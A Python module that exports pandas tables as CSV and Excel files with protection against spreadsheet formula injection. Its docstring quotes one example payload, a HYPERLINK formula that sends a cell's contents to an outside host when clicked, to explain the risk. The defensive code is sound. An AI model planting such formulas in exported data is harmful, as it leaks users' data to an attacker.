"""Tables as files people open in a spreadsheet (the CSV and Excel downloads), made so that a cell stays data.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a
formula (`=HYPERLINK("http://host/?"&A1, "x")` leaks a cell when clicked). In CSV such a cell gets a leading
apostrophe, as OWASP recommends ("CSV Injection"); in Excel files the cell is written as text. Numbers stay
numbers: only text is touched, and column names are text too. No Streamlit."""
from __future__ import annotations

import io

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """A text value that cannot start a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])]


def neutralized(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names cannot start a formula (see the module's docstring)."""
    out = df.copy()
    for col in _text_columns(out):
        out[col] = out[col].map(safe_text, na_action="ignore")
    out.columns = [safe_text(str(c)) for c in out.columns]
    return out


def csv_bytes(df: pd.DataFrame) -> bytes:
    """UTF-8 with a BOM, so Excel opens Vietnamese text right; formula-looking text neutralized; CRLF line ends,
    so a field holding a lone CR is quoted too."""
    return neutralized(df).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def excel_bytes(df: pd.DataFrame, sheet: str = "data") -> bytes:
    """An .xlsx of the table (time zones dropped: Excel has none); text that looks like a formula is kept as
    text, exactly as it reads, never evaluated."""
    out = df.copy()
    for col in out.columns:
        if isinstance(out[col].dtype, pd.DatetimeTZDtype):
            out[col] = out[col].dt.tz_localize(None)
    out.columns = [str(c) for c in out.columns]
    name = (sheet or "data")[:31]
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as writer:
        out.to_excel(writer, index=False, sheet_name=name)
        for row in writer.sheets[name].iter_rows():
            for cell in row:
                if cell.data_type == "f":  # openpyxl takes any text starting with "=" for a formula
                    cell.data_type = "s"
    return buf.getvalue()
